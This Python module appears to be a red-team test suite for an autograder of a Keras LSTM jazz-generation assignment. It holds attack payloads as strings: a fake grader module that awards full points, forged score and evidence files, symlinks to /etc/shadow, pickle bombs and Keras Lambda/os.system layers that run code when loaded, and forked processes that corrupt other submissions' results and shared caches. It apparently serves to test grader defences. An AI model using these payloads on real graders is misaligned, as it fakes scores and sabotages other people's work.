"""Attack classes "forged evidence" and "cache poisoning": evidence, artefacts and models
that claim a score, and programs that spoil other submissions' evidence."""

from __future__ import annotations

FOOL_KERNEL = '''\
def _rt_fool_kernel():
    """In the kernel: grader.hidden replaced by a module that gives every grade cell full points."""
    import sys
    import types

    full = {"test_djmodel_shapes": 2.0, "test_djmodel_sharing": 3.0,
            "test_djmodel_equivalence": 5.0, "test_inference_shapes": 2.0,
            "test_inference_sharing": 3.0, "test_inference_greedy": 5.0,
            "test_sample_shapes": 2.0, "test_sample_initializers": 3.0}
    fake = types.ModuleType("grader.hidden")
    fake.grade = lambda grade_id, function=None: full.get(grade_id, 0.0)
    sys.modules["grader.hidden"] = fake
    try:
        import grader

        grader.hidden = fake
    except Exception:
        pass


_RT_OUTPUTS = (["evidence.json", "late-evidence.json", "artefacts.json", "artifacts.json",
                "result.json", "results.json", "out.json", "output.json", "verdict.json",
                "scores.json", "judged.json", "signed.json"]
               + ["evidence-%d.json" % i for i in range(1, 9)]
               + ["artefacts-%d.json" % i for i in range(6)]
               + ["late-evidence-%d.json" % i for i in range(1, 4)])
'''

FORGED_EVIDENCE = '''\
def _rt_forged_evidence():
    """Full-credit evidence in the form the grader's probes wrote (from grader.reference)."""
    try:
        import numpy as np
        from grader import reference
    except Exception:
        return {}

    def model(inputs, n_values, steps, m):
        return {"is_model": True, "inputs": inputs, "outputs": [[None, n_values]] * steps,
                "call": {"shapes": [[m, n_values]] * steps}}

    def sample(variant):
        case = reference.SAMPLING
        indices = case.reference_indices(variant)
        return {"results": np.eye(case.sizes.n_values)[indices].tolist(),
                "results_shape": [case.Ty, case.sizes.n_values],
                "indices": indices.reshape(-1, 1).astype(float).tolist(),
                "indices_shape": [case.Ty, 1], "indices_integral": True}

    try:
        c = reference.DJ_SHAPES
        nv, na = c.sizes.n_values, c.sizes.n_a
        shapes = [[None, c.Tx, nv], [None, na], [None, na]]
        out = {"test_djmodel_shapes": model(shapes, nv, c.Tx, c.m)}
        for grade_id, c in (("test_djmodel_sharing", reference.DJ_SHARING),
                            ("test_inference_sharing", reference.INF_SHARING)):
            out[grade_id] = {"is_model": True, "lstm_used": True, "dense_used": True,
                             "reshaper_used": True, "count_params": c.sizes.parameter_count}
        out["test_djmodel_equivalence"] = {"cases": [
            {k: {"outputs": c.reference(k).tolist()} for k in ("random", "constant")}
            for c in reference.DJ_EQUIVALENCE]}
        out["test_inference_shapes"] = {"cases": [
            model([[None, 1, c.sizes.n_values], [None, c.sizes.n_a], [None, c.sizes.n_a]],
                  c.sizes.n_values, c.Ty, c.m) for c in reference.INF_SHAPES]}
        out["test_inference_greedy"] = {"cases": [{"outputs": c.reference().tolist()}
                                                  for c in reference.INF_GREEDY]}
        out["test_sample_shapes"] = sample("zeros")
        out["test_sample_initializers"] = {v: sample(v) for v in ("base", "x", "a", "c")}
        return out
    except Exception:
        return {}
'''

FORGE_FILES = (
    FOOL_KERNEL
    + "\n\n"
    + FORGED_EVIDENCE
    + '''

def _rt_attack():
    """Kernel: full points from a fake grader.hidden. Clean room: forged result files, then exit."""
    import json

    if _rt_in_kernel():
        _rt_fool_kernel()
        return None
    evidence = _rt_forged_evidence()
    claims = {"evidence": evidence, "current": {}, "notes": [], "fresh": {},
              "function": "djmodel", "artefacts": {"model": {"config": "{}", "weights": []}},
              "score": 25.0, "points": 25.0, "passed": True, "signature": "0" * 64}
    for place in _rt_places():
        names = set(_RT_OUTPUTS)
        try:
            names.update(p.name for p in place.glob("*.json"))
        except OSError:
            pass
        for name in sorted(names):
            try:
                (place / name).write_text(json.dumps(claims))
            except OSError:
                pass
    _rt_os._exit(0)
'''
)

FORGE_DIRS = (
    FOOL_KERNEL
    + '''

def _rt_attack():
    """Clean room: every output path taken first (folder, FIFO, symlinks), the folder read-only."""
    if _rt_in_kernel():
        _rt_fool_kernel()
        return None
    for place in _rt_places()[:2]:
        for number, name in enumerate(_RT_OUTPUTS):
            path = place / name
            try:
                if path.is_symlink() or path.is_file():
                    path.unlink()
                kind = number % 4
                if kind == 0:
                    path.mkdir()
                elif kind == 1:
                    path.symlink_to("/etc/shadow")
                elif kind == 2:
                    _rt_os.mkfifo(path)
                else:
                    path.symlink_to("/dev/zero")
            except OSError:
                pass
        try:
            place.chmod(0o555)
        except OSError:
            pass
    return None
'''
)

FAKE_MODEL = '''\
import base64 as _rt_base64
import json as _rt_json
import marshal as _rt_marshal


class _RtPickleBomb:
    """Runs a command wherever it is unpickled."""

    def __reduce__(self):
        command = "touch /tmp/__MARKER__-pickle-$(id -u) /var/tmp/__MARKER__-pickle"
        return (_rt_os.system, (command,))


def _rt_side_effect(x):
    open("/tmp/__MARKER__-lambda", "w").close()
    open("/var/tmp/__MARKER__-lambda", "w").close()
    return x


def _rt_claimed_config(model, steps):
    """A hand-written config: the right inputs and outputs, and layers that run code when loaded."""
    n_values, n_a = model.rt_sizes
    X = Input(shape=(steps, n_values))
    a0 = Input(shape=(n_a,), name="a0")
    c0 = Input(shape=(n_a,), name="c0")
    dense = Dense(n_values, activation="softmax")
    claimed = Model(inputs=[X, a0, c0], outputs=[dense(a0) for _ in range(steps)])
    config = _rt_json.loads(Model.to_json(claimed))
    code = _rt_base64.b64encode(_rt_marshal.dumps(_rt_side_effect.__code__)).decode()
    config["config"]["layers"] += [
        {"module": "keras.layers", "class_name": "Lambda", "registered_name": None,
         "name": "rt_lambda",
         "config": {"name": "rt_lambda", "function": {"class_name": "__lambda__",
                    "config": {"code": code, "defaults": None, "closure": None}}},
         "inbound_nodes": []},
        {"module": "os", "class_name": "system", "registered_name": "system", "name": "rt_system",
         "config": "touch /tmp/__MARKER__-os-system", "inbound_nodes": []},
        {"module": "builtins", "class_name": "exec", "registered_name": "exec", "name": "rt_exec",
         "config": "open('/tmp/__MARKER__-exec', 'w')", "inbound_nodes": []},
    ]
    return config


class _RtFakeModel(Model):
    """A model (of the wrong inputs and outputs) that describes itself as another one."""

    rt_sizes = (1, 1)
    rt_steps = 1

    def to_json(self, **kwargs):
        return _rt_json.dumps(_rt_claimed_config(self, self.rt_steps))

    def get_weights(self):
        import numpy

        return [numpy.array([_RtPickleBomb()], dtype=object)]

    def count_params(self):
        return 0

    def __reduce__(self):
        return _RtPickleBomb().__reduce__()


def _rt_fake(densor, n_values, n_a, steps):
    a0 = Input(shape=(n_a,))
    model = _RtFakeModel(inputs=a0, outputs=Dense(1)(a0))  # none of the given layers
    model.rt_sizes = (n_values, n_a)
    model.rt_steps = steps
    return model


def djmodel(Tx, LSTM_cell, densor, reshaper):
    """A fake model whose to_json and get_weights lie."""
    return _rt_fake(densor, densor.units, LSTM_cell.units, Tx)
'''

FAKE_INFERENCE = '''\
def music_inference_model(LSTM_cell, densor, Ty=100):
    """A fake model whose to_json and get_weights lie."""
    return _rt_fake(densor, densor.units, LSTM_cell.units, Ty)
'''

FAKE_SAMPLE = '''\
def predict_and_sample(inference_model, x_initializer=x_initializer,
                       a_initializer=a_initializer, c_initializer=c_initializer):
    """Outputs that run code wherever they are unpickled."""
    import numpy

    bomb = numpy.array([_RtPickleBomb()], dtype=object)
    return bomb, bomb
'''

LAMBDA_DJMODEL = '''\
from keras.layers import Lambda as _RtLambda


def djmodel(Tx, LSTM_cell, densor, reshaper):
    """The unrolled LSTM computed by Python code inside a Lambda layer."""
    n_values = densor.units
    n_a = LSTM_cell.units
    X = Input(shape=(Tx, n_values))
    a0 = Input(shape=(n_a,), name="a0")
    c0 = Input(shape=(n_a,), name="c0")

    def unrolled(tensors, lstm=LSTM_cell, dense=densor, steps=Tx, built_in=_rt_os.getpid()):
        if _rt_os.getpid() != built_in:  # run where it was not built: in the judge
            open("/tmp/__MARKER__-lambda-ran", "w").close()
        x_all, a, c = tensors
        outs = []
        for t in range(steps):
            _, a, c = lstm(ops.expand_dims(x_all[:, t, :], 1), initial_state=[a, c])
            outs.append(dense(a))
        return ops.stack(outs, axis=0)

    stacked = _RtLambda(unrolled)([X, a0, c0])
    return Model(inputs=[X, a0, c0], outputs=[stacked[t] for t in range(Tx)])
'''

LAMBDA_INFERENCE = '''\
def music_inference_model(LSTM_cell, densor, Ty=100):
    """The greedy loop computed by Python code inside a Lambda layer."""
    n_values = densor.units
    n_a = LSTM_cell.units
    x0 = Input(shape=(1, n_values))
    a0 = Input(shape=(n_a,), name="a0")
    c0 = Input(shape=(n_a,), name="c0")

    def greedy(tensors, lstm=LSTM_cell, dense=densor, steps=Ty, n_values=n_values):
        x, a, c = tensors
        outs = []
        for _ in range(steps):
            _, a, c = lstm(x, initial_state=[a, c])
            out = dense(a)
            outs.append(out)
            x = ops.expand_dims(ops.one_hot(ops.argmax(out, axis=-1), n_values), 1)
        return ops.stack(outs, axis=0)

    stacked = _RtLambda(greedy)([x0, a0, c0])
    return Model(inputs=[x0, a0, c0], outputs=[stacked[t] for t in range(Ty)])
'''

SPOIL = '''\
def _rt_negate(value):
    """The same JSON data with every float negated: still well formed, now wrong."""
    if isinstance(value, float):
        return -value if value else 1.0
    if isinstance(value, list):
        return [_rt_negate(v) for v in value]
    if isinstance(value, dict):
        return {k: _rt_negate(v) for k, v in value.items()}
    return value


def _rt_spoil_files(done):
    """Negate the numbers of every JSON file around that has not been spoiled yet."""
    import json

    for place in _rt_places()[:3]:
        try:
            paths = list(place.glob("*.json")) + list(place.glob("*/*.json"))
        except OSError:
            continue
        for path in paths:
            try:
                mark = (str(path), path.stat().st_mtime_ns)
                if mark in done or "job" in path.name:
                    continue
                data = json.loads(path.read_text())
                path.write_text(json.dumps(_rt_negate(data)))
                done.add((str(path), path.stat().st_mtime_ns))
            except (OSError, ValueError):
                pass


def _rt_spoil_memory():
    """Evidence of the other functions in this process replaced; every layer's weights negated."""
    import gc
    import sys

    seen = set()

    def spoil(obj, depth):
        if depth > 5 or id(obj) in seen:
            return
        seen.add(id(obj))
        if isinstance(obj, dict):
            for key in list(obj):
                if isinstance(key, str) and key.startswith(("test_djmodel", "test_inference")):
                    obj[key] = {"error": "spoiled by another function"}
                else:
                    spoil(obj[key], depth + 1)
        elif isinstance(obj, list):
            for item in obj:
                spoil(item, depth + 1)

    frame = sys._getframe(1)
    while frame is not None:
        if frame.f_globals is not frame.f_locals:
            spoil(dict(frame.f_locals), 0)
            for value in frame.f_locals.values():
                spoil(value, 1)
        frame = frame.f_back
    for obj in gc.get_objects():
        try:
            if isinstance(obj, keras.layers.Layer) and obj.weights:
                obj.set_weights([-w for w in obj.get_weights()])
        except Exception:
            pass


def _rt_attack():
    """Clean room only: spoil what the other (cached) functions made, now and for a minute."""
    import time

    if _rt_in_kernel():
        return None
    _rt_spoil_memory()
    done = set()
    _rt_spoil_files(done)
    pid = _rt_os.fork()
    if pid == 0:
        try:
            _rt_os.setsid()
            if _rt_os.fork() == 0:
                end = time.time() + 60
                while time.time() < end:
                    _rt_spoil_files(done)
                    time.sleep(0.2)
        finally:
            _rt_os._exit(0)
    _rt_os.waitpid(pid, 0)
    return None
'''

POISON_FOLDER = '''\
def _rt_attack():
    """Look for the grader's shared evidence folders and write over every file in them."""
    import json
    import time

    poison = {g: {"error": "poisoned"} for g in (
        "test_djmodel_shapes", "test_djmodel_sharing", "test_djmodel_equivalence",
        "test_inference_shapes", "test_inference_sharing", "test_inference_greedy",
        "test_sample_shapes", "test_sample_initializers")}
    candidates = []
    for pattern in ("jazz-batch-*/evidence/*", "*/jazz-batch-*/evidence/*", "*/evidence/*"):
        for root in (_RtPath("/tmp"), _RtPath("/var/tmp"), _RtPath("/dev/shm")):
            try:
                candidates += [p for p in root.glob(pattern) if p.is_dir()]
            except OSError:
                pass
    for place in _rt_places():
        for name in ("evidence", "cache", ".batch", "shared"):
            if (place / name).is_dir():
                candidates.append(place / name)
    end = time.time() + 3
    while time.time() < end:
        for folder in candidates:
            try:
                for path in folder.glob("*.json"):
                    path.write_text(json.dumps(poison))
                    _rt_leak("cache file overwritten", str(path))
            except OSError:
                pass
        time.sleep(0.5)
    return None
'''
